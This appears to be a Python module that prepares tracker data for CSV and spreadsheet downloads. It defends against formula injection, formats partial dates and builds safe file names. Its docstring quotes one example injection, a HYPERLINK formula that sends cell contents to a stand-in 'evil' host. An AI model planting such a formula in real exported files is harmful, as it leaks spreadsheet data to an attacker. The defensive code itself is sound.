"""Values as spreadsheets should receive them: neutralized text, dates at their precision.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
programs skip before reading a formula) is run as a formula by Excel, LibreOffice and Google
Sheets when the file is opened: a title like ``=HYPERLINK("http://evil/?"&A1)`` would leak the
sheet. Every text cell of every download gets a leading apostrophe in that case, which all three
programs show as text (OWASP's advice for CSV injection).
"""

from __future__ import annotations

import datetime as dt
import re
import unicodedata
from dataclasses import dataclass
from functools import lru_cache

from tracker.dates import PartialDate

Cell = str | int | bool | dt.date | list[str] | None
"""A value as every download receives it: text, a number, a flag, a full day, several texts."""

LIST_SEPARATOR = "; "
"""Between the values of a cell that holds several (sources, topics, co-signatories)."""

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralize(text: str) -> str:
    """Text that no spreadsheet will run as a formula."""
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def csv_cell(value: Cell) -> str | int:
    """A value as a CSV cell: neutralized text, ``true``/``false``, ISO days, lists joined."""
    if isinstance(value, str):
        return neutralize(value)
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return value
    if isinstance(value, dt.date):
        return value.isoformat()
    return neutralize(LIST_SEPARATOR.join(value))


@dataclass(frozen=True, slots=True)
class DateCells:
    """A partial date as a table shows it: ISO string, words, precision, flag and its span."""

    iso: str
    formatted: str
    precision: str
    approximate: bool
    first_day: dt.date
    last_day: dt.date


@lru_cache(maxsize=65536)
def date_cells(iso: str, approximate: bool) -> DateCells:
    """Cached: a million events share a few thousand dates."""
    value = PartialDate.from_iso(iso, bool(approximate))
    return DateCells(
        iso=value.iso,
        formatted=value.format(),
        precision=value.precision.value,
        approximate=value.approximate,
        first_day=value.start,
        last_day=value.end,
    )


_UNSAFE_IN_NAMES = re.compile(r"[^a-z0-9]+")


def download_name(stem: str, parts: list[str], day: dt.date, extension: str) -> str:
    """A clear, safe file name: ``measures-kg-assembly-2026-11-28.csv``."""
    words = [stem]
    for part in parts:
        # "Côte d'Ivoire" -> "cote-d-ivoire": accents dropped, not the letters they sit on.
        plain = unicodedata.normalize("NFKD", part).encode("ascii", "ignore").decode()
        clean = _UNSAFE_IN_NAMES.sub("-", plain.lower()).strip("-")
        if clean:
            words.append(clean)
    name = "-".join(words)
    if len(name) > 80:  # many filters: keep the name readable; the filters are inside the file
        name = name[:80].rstrip("-")
    return f"{name}-{day.isoformat()}.{extension}"
